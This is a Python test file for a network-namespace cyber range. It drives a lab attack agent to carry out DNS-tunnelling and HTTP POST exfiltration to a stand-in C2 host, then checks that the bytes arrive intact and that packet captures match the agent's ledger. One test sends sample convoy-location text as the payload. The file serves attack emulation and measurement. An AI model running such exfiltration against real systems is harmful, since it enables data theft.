"""T1048 DNS tunnelling and T1041 HTTP POST exfiltration through the real agent: the listener
reassembles exactly the bytes sent, and the ledger equals the capture per 5-tuple."""
from __future__ import annotations

import hashlib

from lab_c2 import ATTACKER, C2, LAB
from nslab import lab_fixture, ledger_flows, needs_netns, packets_only, pcap_flows, read_jsonl

pytestmark = needs_netns

lab = lab_fixture(LAB)


def test_dns_exfiltration_arrives_intact(lab):
    from cyberrange.attack.catalog import TECHNIQUES
    from cyberrange.attack.techniques.exfil import make_document
    log, out = lab.service("c2-dns")
    cap = lab.capture("dnsexfil", snap=2048)
    params = {"size": 6000, "seed": 11, "rate": 400, "jitter": 0.3, "session": "ex01"}
    res = lab.agent("T1048", [f"{C2}:53"], params)
    path = cap.stop()
    doc = make_document(TECHNIQUES["T1048"].with_defaults(params))
    assert res["outcome"] == "succeeded", res
    assert res["facts"]["complete"] and res["facts"]["sha256"] == hashlib.sha256(doc).hexdigest()
    assert (out / "ex01.bin").read_bytes() == doc
    done = [r for r in read_jsonl(log) if r.get("kind") == "exfil-done" and r["session"] == "ex01"]
    assert done and done[-1]["ok"]
    ledger, captured = ledger_flows(res["flows"]), pcap_flows(path, ATTACKER)
    assert len(ledger) == 1 and captured == ledger              # one UDP 5-tuple, exact
    assert res["facts"]["queries"] == next(iter(ledger.values()))[0] >= 6000 * 8 / 5 / 180


def test_dns_exfiltration_of_given_text(lab):
    _log, out = lab.service("c2-dns")
    res = lab.agent("T1048", [C2], {"data": "grid 38S MB 12345 67890; convoy at 0400Z",
                                    "rate": 0, "session": "ex02"})
    assert res["outcome"] == "succeeded", res
    assert (out / "ex02.bin").read_bytes() == b"grid 38S MB 12345 67890; convoy at 0400Z"


def test_http_post_exfiltration_arrives_intact(lab):
    from cyberrange.attack.catalog import TECHNIQUES
    from cyberrange.attack.techniques.exfil import make_document
    log, out = lab.service("c2-http")
    cap = lab.capture("httpexfil")
    params = {"size": 50000, "seed": 5, "chunk": 16384, "session": "hx01"}
    res = lab.agent("T1041", [f"{C2}:8443"], params)
    path = cap.stop()
    doc = make_document(TECHNIQUES["T1041"].with_defaults(params))
    assert res["outcome"] == "succeeded", res
    assert res["facts"]["complete"] and res["facts"]["bytes"] == len(doc) == 50000
    assert (out / "hx01.bin").read_bytes() == doc
    ups = [r for r in read_jsonl(log) if r.get("session") == "hx01"]
    assert [r["kind"] for r in ups] == ["upload"] * 4 + ["upload-done"] and ups[-1]["ok"]
    ledger, captured = ledger_flows(res["flows"]), pcap_flows(path, ATTACKER)
    assert len(ledger) == 5                                     # 4 chunks + done
    assert packets_only(captured) == packets_only(ledger), (captured, ledger)
    diffs = {k: ledger[k][1] - captured[k][1] for k in ledger}
    assert all(d == 0 for d in diffs.values()), diffs


def test_exfil_to_a_closed_port_is_blocked(lab):
    cap = lab.capture("httpexfil-closed")
    res = lab.agent("T1041", [f"{C2}:9999"], {"size": 100})
    path = cap.stop()
    assert res["outcome"] == "blocked", res
    assert packets_only(pcap_flows(path, ATTACKER)) == packets_only(ledger_flows(res["flows"]))
